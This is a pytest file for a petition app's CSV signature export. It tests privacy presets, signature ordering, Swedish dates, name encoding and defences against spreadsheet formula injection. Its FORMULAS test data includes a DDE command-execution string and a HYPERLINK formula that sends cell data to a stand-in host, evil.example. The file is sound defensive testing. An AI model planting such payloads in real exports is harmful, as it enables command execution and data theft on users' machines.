"""What stands in a list: no more than was promised, nobody who does not count, nothing that runs."""

from __future__ import annotations

import csv
import io
from itertools import product

import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from app.core.clock import today
from app.core.db import db, transaction
from app.exports.csv_files import harmless
from app.exports.lists import Format, initials
from app.exports.refusals import MoreThanPromised
from app.petitions.models import Petition, Preset
from app.record.models import Act
from app.signatures import withdrawing
from tests.clocks import Clock
from tests.exports.conftest import Export, rows_of
from tests.exports.making import ask, csv_rows, file_of, written
from tests.factories import make_paper_total, make_petition, make_signature

TEXTS = (Format.EXCEL, Format.RFC4180)
ORDER = [Preset.COUNT, Preset.INITIALS, Preset.NAME_TOWN, Preset.FULL]
CEILINGS = list(product(ORDER, repeat=2))


def exports() -> list[Act]:
    db.session.rollback()
    return list(db.session.scalars(select(Act).where(Act.kind == "list.exported").order_by(Act.id)))


@pytest.mark.parametrize(("promised", "asked"), CEILINGS)
def test_no_more_leaves_than_was_promised(
    app: Flask, export: Export, promised: Preset, asked: Preset
) -> None:
    petition = make_petition(preset=promised)
    make_signature(petition, name="Zebediah Överkvist", email="zebbe@example.org", postcode="12465")
    answer = export(petition, asked)
    if ORDER.index(asked) <= ORDER.index(promised):
        assert answer.status_code == 200
        assert len(exports()) == 1
        return
    assert answer.status_code == 422
    for words in ("Zebediah", "Överkvist", "zebbe@example.org", "Z. Ö."):
        assert words not in answer.text
    with pytest.raises(MoreThanPromised):
        ask(petition, asked, Format.EXCEL)
    assert exports() == []


CONTENT = {
    Preset.INITIALS: ["H. Ö.", "124"],
    Preset.NAME_TOWN: ["Hjördis Övningslund", "12465"],
    Preset.FULL: ["Hjördis Övningslund", "Hjordis@Example.org", "12465"],
}


@pytest.mark.parametrize("preset", CONTENT)
def test_each_list_holds_what_its_name_says(
    clock: Clock, petition: Petition, export: Export, preset: Preset
) -> None:
    make_signature(petition, name="Hjördis Övningslund", email="Hjordis@Example.org", postcode="12465")
    for form in TEXTS:
        answer = export(petition, preset, form)
        head, row = rows_of(answer)
        assert len(head) == len(row)
        assert row[:-2] == ["1", *CONTENT[preset], "2026-03-14"]
        for words in ("Övningslund", "Example.org", "12465"):
            assert (words in answer.text) is any(words in cell for cell in CONTENT[preset])


def test_a_list_without_people_holds_the_numbers(petition: Petition, export: Export) -> None:
    for _ in range(3):
        make_signature(petition)
    make_paper_total(petition, count=12)
    head, row = rows_of(export(petition, Preset.COUNT))
    assert len(head) == 4
    assert row[:3] == ["3", "12", "15"]


def test_only_those_who_count_stand_in_it_in_their_order(clock: Clock, petition: Petition) -> None:
    first = make_signature(petition, name="Första Namnet")
    make_signature(petition, name="Aldrig Bekräftad", is_confirmed=False)
    gone = make_signature(petition, name="Borttagen Borta")
    make_signature(name="Annan Insamling")
    clock.move(hours=1)
    make_signature(petition, name="Sista Namnet")
    with transaction():
        withdrawing.withdraw_signature(gone)
    rows = csv_rows(file_of(written(petition, Preset.NAME_TOWN)))[1:]
    assert [row[:2] for row in rows] == [["1", "Första Namnet"], ["2", "Sista Namnet"]]
    assert first.petition.online_count == len(rows)


def test_the_day_is_the_one_in_sweden(clock: Clock, petition: Petition) -> None:
    clock.move(hours=12)  # 23:00 UTC: midnight in Stockholm
    assert today().isoformat() == "2026-03-15"
    make_signature(petition)
    assert csv_rows(file_of(written(petition)))[1][4] == "2026-03-15"


NAMES = [
    "Åsa Öberg",
    "محمد علي",
    "👩‍🚒 Eldsjäl",
    'Alva "Allan" Ek',
    "Ek, Alva; m.fl.",
    "O'Brien",
    "a" * 100,
    "1234567890123456",
    "1/2",
    "\\",
]


@pytest.mark.database("sqlite")
@pytest.mark.parametrize("form", TEXTS)
def test_every_kind_of_name_comes_out_as_it_went_in(petition: Petition, export: Export, form: Format) -> None:
    for name in NAMES:
        make_signature(petition, name=name)
    answer = export(petition, Preset.NAME_TOWN, form)
    assert [row[1] for row in rows_of(answer)[1:]] == NAMES
    assert answer.data.startswith(b"\xef\xbb\xbf") is (form == Format.EXCEL)
    assert answer.data.count(b"\r\n") == len(NAMES) + 1
    assert answer.data.count(b"\n") == len(NAMES) + 1


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"=1+1"',
    "'=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "Alva;=1+1",
    "Alva,=1+1",
    "Alva\t=1+1",
    "Alva; =1+1;",
    'Alva;"=1+1"',
    'Alva",=1+1,"',
    "Alva\r\n=1+1",
    ";;;=1+1",
]


def cells(text: str) -> list[str]:
    """Cut a text into cells in every way that a spreadsheet might, whatever it was told about separators."""
    found = []
    for separator in (";", ",", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            found += row
        for line in text.splitlines():
            found += line.split(separator)
    return found


def is_formula(cell: str) -> bool:
    return cell.strip().lstrip('"').strip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@pytest.mark.database("sqlite")
@pytest.mark.parametrize("form", TEXTS)
def test_no_cell_is_taken_for_a_formula_however_the_list_is_opened(
    petition: Petition, export: Export, form: Format
) -> None:
    for number, name in enumerate(FORMULAS):
        make_signature(petition, name=name, email=f"={number}+x@example.org")
    for preset in CONTENT:
        text = export(petition, preset, form).data.decode("utf-8-sig")
        assert [cell for cell in cells(text) if is_formula(cell)] == []
        assert (
            len(list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if form == "excel" else ",")))
            > 24
        )


@given(st.text(alphabet="=+-@＝\t\r\n;,\"' ax", max_size=12))
def test_nor_is_any_mixture_of_them(text: str) -> None:
    for separator in ";,":
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=separator, lineterminator="\r\n").writerow(["1", harmless(text), "x"])
        assert [cell for cell in cells(buffer.getvalue()) if is_formula(cell)] == []


@pytest.mark.parametrize("text", ["Alva Ek", "Anna-Karin", "a+b@example.org", "Ek, Alva", "1-2", "A; B", ""])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("name", "short"),
    [
        ("Åsa Maria Öberg", "Å. M. Ö."),
        ("åsa", "Å."),
        ("Anna-Karin Ek", "A. E."),
        ("محمد علي", "م. ع."),
        ("=x", "=."),
    ],
)
def test_initials_tell_no_more_than_letters(name: str, short: str) -> None:
    assert initials(name) == short
